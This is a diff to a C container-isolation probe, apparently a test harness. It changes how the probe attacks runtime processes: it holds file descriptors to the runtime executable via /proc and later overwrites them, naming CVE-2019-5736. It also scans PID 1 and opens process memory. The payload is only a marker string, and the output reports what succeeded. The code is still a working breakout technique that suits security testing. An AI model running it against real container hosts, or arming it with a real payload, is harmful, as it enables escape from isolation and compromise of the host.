@@ -97,6 +97,23 @@ static void bomb(void) {
 /* Whatever is none of the container's own programs: of a mount that is in no namespace the name is only "/". */
 static int is_runtime(const char *exe) { return exe[0] && strcmp(exe, "/bin/busybox") && strcmp(exe, "/bin/inside"); }
 
+/* Images of the runtime: they cannot be written while anybody executes them (ETXTBSY), so they are held until later (CVE-2019-5736). */
+#define HELD_MAX 64
+static int held[HELD_MAX];
+static int held_count;
+
+static void overwrite_held(void) {
+  for (int i = 0; i < held_count; i++) {
+    char own[64];
+    snprintf(own, sizeof own, "/proc/self/fd/%d", held[i]);
+    int out = open(own, O_WRONLY | O_CLOEXEC);
+    if (out >= 0) {
+      printf("OVERWRITTEN %zd\n", write(out, "#!overwritten\n", 14));
+      close(out);
+    }
+  }
+}
+
 /* What one process of the container can do to another that is still the runtime. */
 static void attack(int pid) {
   char path[64], exe[PATH_MAX] = "";
@@ -104,22 +121,8 @@ static void attack(int pid) {
   int image = open(path, O_RDONLY | O_CLOEXEC);
   ssize_t length = readlink(path, exe, sizeof exe - 1);
   exe[length < 0 ? 0 : length] = 0;
-  if (image >= 0) {
-    char own[64];
-    snprintf(own, sizeof own, "/proc/self/fd/%d", image);
-    for (int i = 0; i < 200 && is_runtime(exe); i++) {
-      int out = open(own, O_WRONLY | O_CLOEXEC);
-      if (out >= 0) {
-        ssize_t written = write(out, "#!overwritten\n", 14);
-        printf("OVERWRITTEN %zd %s\n", written, exe);
-        close(out);
-        break;
-      }
-      if (errno != ETXTBSY) break;
-      usleep(500);
-    }
-    close(image);
-  }
+  if (image >= 0 && is_runtime(exe) && held_count < HELD_MAX) held[held_count++] = image;
+  else if (image >= 0) close(image);
   if (is_runtime(exe)) printf("READABLE exe %s\n", exe);
   snprintf(path, sizeof path, "/proc/%d/mem", pid);
   int memory = open(path, O_RDWR | O_CLOEXEC);
@@ -149,7 +152,7 @@ static void lurk(long seconds) {
   long seen = 0;
   int newest = getpid();
   for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
-    for (int pid = 2; pid < newest + 64; pid++) {
+    for (int pid = 1; pid < newest + 64; pid++) {
       char path[64];
       snprintf(path, sizeof path, "/proc/%d", pid);
       if (pid == getpid() || access(path, F_OK) != 0) continue;
@@ -157,6 +160,10 @@ static void lurk(long seconds) {
       seen++;
       attack(pid);
     }
+  }
+  for (int i = 0; i < 40 && held_count; i++) {
+    overwrite_held();
+    usleep(50000);
   }
   printf("saw %ld\n", seen);
 }
